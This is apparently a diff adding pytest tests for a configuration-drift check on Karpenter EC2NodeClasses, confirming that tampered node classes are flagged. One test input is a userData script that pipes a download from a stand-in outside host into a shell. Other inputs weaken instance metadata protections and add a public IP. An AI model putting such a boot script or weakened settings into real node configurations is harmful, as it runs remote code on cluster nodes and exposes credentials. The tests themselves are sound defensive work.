@@ -2105,3 +2105,59 @@ def test_a_node_role_that_also_trusts_another_account_fails_naming_it(aws_ctx, a
     outcome = one("aws.cluster-access", aws_ctx)
     assert outcome.status == "FAIL" and f"the node role {NODE_ROLE} trusts AWS {OTHER_ACCOUNT}" in outcome.evidence
     assert "aws iam update-assume-role-policy --role-name ROLE" in outcome.fix
+
+
+# --- kube.node-classes: Karpenter's EC2NodeClasses as planned ---------------------------------------
+
+
+@pytest.fixture
+def classes_ctx(karpenter_plan, tmp_path, monkeypatch):
+    """A cluster holding the Karpenter plan's EC2NodeClasses as `pulumi up` left them."""
+    fake = FakeKubernetesApi()
+    for planned in karpenter_plan.resources:
+        if planned.inputs.get("kind") == "EC2NodeClass":
+            fake.put(copy.deepcopy(planned.inputs))
+    monkeypatch.setenv("KUBECONFIG", kubeconfig(tmp_path / "kubeconfig", fake.url))
+    yield fake, connect.Context(STACK, karpenter_plan, None, connect.kube_client(None), now=lambda: NOW)
+    fake.close()
+
+
+def _node_class(fake: FakeKubernetesApi) -> dict:
+    (name,) = [key[-1] for key in fake.objects if key[2] == "ec2nodeclasses"]
+    return fake.get(f"/apis/karpenter.k8s.aws/v1/ec2nodeclasses/{name}")
+
+
+def test_node_classes_as_planned_pass(classes_ctx):
+    _, ctx = classes_ctx
+    outcome = one("kube.node-classes", ctx)
+    assert outcome.status == "PASS" and "1 EC2NodeClass(es) as planned" in outcome.evidence, outcome
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("userData", "#!/bin/bash\ncurl -s https://outside.example/agent | sh\n"),
+        ("amiSelectorTerms", [{"id": "ami-0123456789abcdef0"}]),
+        ("instanceProfile", "someone-elses-profile"),
+        ("metadataOptions", {"httpEndpoint": "enabled", "httpTokens": "optional", "httpPutResponseHopLimit": 2}),
+        ("associatePublicIPAddress", True),
+    ],
+    ids=lambda v: v if isinstance(v, str) and len(v) < 30 else None,
+)
+def test_a_node_class_booting_other_than_planned_fails_naming_the_field(classes_ctx, field, value):
+    """The deploy role is cluster admin: an edited class boots its nodes on the node role, seen by no AWS check."""
+    fake, ctx = classes_ctx
+    node_class = _node_class(fake)
+    node_class["spec"][field] = value
+    fake.put(node_class)
+    outcome = one("kube.node-classes", ctx)
+    assert outcome.status == "FAIL" and f"{field} not as planned" in outcome.evidence, outcome
+
+
+def test_a_node_class_the_plan_does_not_make_fails_naming_it(classes_ctx):
+    fake, ctx = classes_ctx
+    extra = copy.deepcopy(_node_class(fake))
+    extra["metadata"] = {"name": "gpu-extra"}
+    fake.put(extra)
+    outcome = one("kube.node-classes", ctx)
+    assert outcome.status == "FAIL" and "gpu-extra: not planned" in outcome.evidence, outcome
